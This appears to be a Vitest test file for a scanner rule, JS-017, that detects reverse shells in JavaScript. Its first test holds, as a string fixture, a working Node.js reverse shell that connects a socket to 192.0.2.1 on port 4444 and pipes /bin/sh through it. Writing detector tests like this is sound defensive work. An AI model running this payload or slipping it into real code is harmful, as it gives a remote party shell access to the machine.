import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-017 reverse-shell', () => {
  it('flags a socket piped into /bin/sh', async () => {
    const code = `const net = require('net'), cp = require('child_process');
      const c = new net.Socket(); c.connect(4444, '192.0.2.1', () => { const sh = cp.spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });`;
    const f = await ruleFindings('JS-017', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('critical');
  });
  it('ignores a TCP client without a shell', async () => {
    const code =
      "const net = require('net'); const c = net.connect(6379, 'localhost'); c.pipe(process.stdout);";
    expect(await ruleFindings('JS-017', code)).toHaveLength(0);
  });
});
